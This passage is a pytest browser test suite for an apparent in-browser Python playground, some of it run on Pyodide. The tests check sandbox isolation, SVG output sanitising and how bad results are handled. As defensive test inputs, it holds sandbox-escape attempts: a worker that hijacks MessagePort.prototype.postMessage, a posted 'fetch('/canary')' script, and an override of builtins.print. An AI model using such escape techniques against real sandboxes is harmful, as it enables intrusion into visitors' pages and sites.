    kinds = page.eval_on_selector_all("#walk svg, #walk svg *", "all => [...new Set(all.map((each) => each.nodeName))]")
    assert {*kinds} <= {"svg", "title", "desc", "g", "rect", "circle", "polygon", "path", "text"}
    names = page.eval_on_selector_all("#walk svg *", "all => all.flatMap((each) => each.getAttributeNames())")
    assert not {name for name in names if re.match("on|.*href|style", name)}
    assert page.evaluate("[localStorage.theirs, document.cookie]") == ["theirs=1", "theirs=1"]


@pytest.mark.browser
def test_a_program_reaches_neither_the_site_nor_its_visitor_nor_anybody_else(browser, address, tmp_path, monkeypatch):
    page = browser.new_page(viewport={"width": 1280, "height": 800})
    page.goto(address)
    with listening(page, tmp_path, monkeypatch) as (far, elsewhere):
        page.route("**/worker.js*", lambda route: route.fulfill(body=ready(WAYS + CANARY, address, far)))
        run(page)
        says(page.locator("#printed"), "hits: .")
        still(page)
        shows_nothing_hostile(page)
        assert elsewhere() == NOWHERE and page.url.endswith("/play/")
    page.close()


@pytest.mark.browser
def test_all_of_a_picture_of_ours_passes(browser):
    page = browser.new_page()
    code = source("pictures", "js")
    parsed = f"(markup) => {{{code}; return new XMLSerializer().serializeToString(parseSvg(markup)); }}"
    drawn = [path.read_text("utf-8") for path in (ROOT / "tests" / "golden").rglob("*.svg")]
    drawn = [each for each in drawn if "<style" not in each]  # an image, shown by itself
    assert len(drawn) > 10
    for each in drawn:
        once = page.evaluate(parsed, each)
        assert ElementTree.canonicalize(once) == ElementTree.canonicalize(each)
    page.close()


NO_RESULTS = [
    "null", "7", "'{'", "'[]'", "'null'", "{}", "'{\"printed\": 1}'", "'\"' + 'x'.repeat(60_000_000) + '\"'",
    """'{"printed": "", "error": "", "why": "", "stepper": {"step": 0}}'""",
    """JSON.stringify({ printed: "", error: "", why: "", stepper: { step: 0, detail: "fast", speed: 1, titles: [""],
        details: { fast: { count: 1, ends: [1], stories: 5 } } } })"""]  # fmt: skip


@pytest.mark.browser
def test_results_that_are_none_are_told_and_the_next_program_runs(play, address):
    page = play()
    for answer in NO_RESULTS:
        worker = PIPE.replace("await answer.text()", answer, 1).replace("ADDRESS/", address)
        page.route("**/worker.js*", lambda route, _, worker=worker: route.fulfill(body=worker), times=1)
        run(page)
        says(page.locator(state), WORDS["unreadable"])
        page.reload()
    run(page, "print(7)")
    says(page.locator("#printed"), "7")


@pytest.mark.browser
def test_the_place_where_programs_run_does_nothing_for_another_page(browser, address):
    """Opened by itself it has the site's origin."""
    page = browser.new_page()
    page.goto(f"{address}python.html")
    workers = []
    page.on("worker", lambda worker: workers.append(worker))
    page.evaluate("script => postMessage({ script }, '*', [new MessageChannel().port1])", "fetch('/canary')")
    page.evaluate("() => new Promise((resolve) => setTimeout(resolve))")
    assert workers == []
    page.close()


# -- in a browser, with a copy of Pyodide ------------------------------------------------------------------------------

DEEP = """
import torch
x = y = torch.tensor(1., requires_grad=True)
for _ in range(4_000): y = y * 1.
y.backward()
"""


@pytest.fixture
def in_pyodide(request, browser, tmp_path, monkeypatch):
    """A page whose Python is Pyodide, cut off from the network; and how many bytes its server has sent so far."""
    from autograd_nb.course.site.lite import own_wheel

    own_wheel(tmp_path / "wheels")
    (wheel,) = (tmp_path / "wheels").iterdir()
    (tmp_path / "pyodide").symlink_to(Path(request.config.getoption("--pyodide")).resolve())
    play_page.write(tmp_path, wheel, "../pyodide/")
    sent = []
    monkeypatch.setattr(serving.Quiet, "copyfile", lambda _, file, to: sent.append(to.write(file.read())))
    profile, options = tmp_path / "profile", {"executable_path": CHROMIUM, "args": FLAGS}  # its cache is on disk
    with serving.folder(tmp_path) as address:
        context = browser.browser_type.launch_persistent_context(profile, **options)
        page = context.new_page()
        page.goto(f"{address}/play/")
        yield page, sent
        context.close()


def ran(page, code):
    """The page's output for a program, once it is done."""
    run(page, code)
    until(lambda: page.get_by_role("button", name="Run").is_enabled(), 120)
    return {each: page.locator(f"#{each}").inner_text() for each in ("state", "printed", "error", "why", "walk")}


@pytest.mark.browser
def test_in_pyodide_each_example_gives_what_it_gives_here(in_pyodide):
    page, sent = in_pyodide
    seen = []
    page.expose_function("seen", lambda text: seen.append(text))
    page.evaluate("new MutationObserver(() => seen(at.state.textContent)).observe(at.state, { childList: true })")
    for example in EXAMPLES:
        shown, here = ran(page, example["code"]), playing.run(example["code"])
        assert shown["printed"].split() == here["printed"].split() and shown["why"] == here["why"]
        assert shown["error"].split("\n")[-2:] == here["error"].split("\n")[-2:]
        assert sentences(here)[here["stepper"]["step"]] in shown["walk"]
    parts = [re.match(r"Loading .*, (\d) of 3: ([\d.]+) of about (\d+) MB", each) for each in seen]
    parts = [found for found in parts if found]
    assert {found[1] for found in parts} == {"1", "2", "3"}
    assert float(parts[-1][2]) == pytest.approx(float(parts[-1][3]), rel=0.1) and 14e6 < sum(sent) < 18e6
    sent.clear()
    page.reload()
    assert ran(page, EXAMPLES[0]["code"])["state"] == WORDS["done"]
    assert sum(sent) < 100_000  # the second visit takes the rest from the browser's cache


@pytest.mark.browser
def test_in_pyodide_a_program_without_end_or_bottom_harms_nobody(in_pyodide):
    page, sent = in_pyodide
    assert ran(page, ENDLESS)["state"] == WORDS["endless"].replace("{seconds}", "10")
    assert (deep := ran(page, DEEP))["state"] == WORDS["done"] and deep["error"] == ""
    assert ran(page, "print(1)\nwhile True: pass")["printed"] == "1\n"
    ran(page, "import torch, builtins\ntorch.set_grad_enabled(False)\nbuiltins.print = open('left', 'w').write")
    fresh = ran(page, "import os, torch\nprint(torch.is_grad_enabled(), os.path.exists('left'))")
    assert fresh["printed"] == "True False\n"
    assert ran(page, "import asyncio\nasyncio.run(asyncio.sleep(1))")["why"] == playing.WAITS
    assert ran(page, "import flask")["why"] == ABSENT_FLASK
    assert ran(page, "for n in range(100_000): print(n)")["printed"].endswith(playing.FULL)


# The same from Python: a worker of the program's own gets the port to the page, and tries the ways.
DISGUISED = '''
import js
from pyodide.ffi import create_proxy, to_js
worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(["""{ways}"""]))))
give = create_proxy(lambda port, *_: worker.postMessage(port, to_js([port])), capture_this=True)
js.MessagePort.prototype.postMessage = give
print()
'''


@pytest.mark.browser
def test_in_pyodide_a_program_reaches_neither_the_site_nor_its_visitor(in_pyodide, tmp_path, monkeypatch):
    page, _ = in_pyodide
    with listening(page, tmp_path, monkeypatch) as (far, elsewhere):
        ways = WAYS + "self.onmessage = async ({ data: port }) => port.postMessage(await tried());"
        run(page, DISGUISED.replace("{ways}", ready(ways, page.url, far).replace("\\", "\\\\")))
        says(page.locator("#printed"), "hits: .")
        still(page)
        shows_nothing_hostile(page)
        assert elsewhere() == NOWHERE and page.url.endswith("/play/")
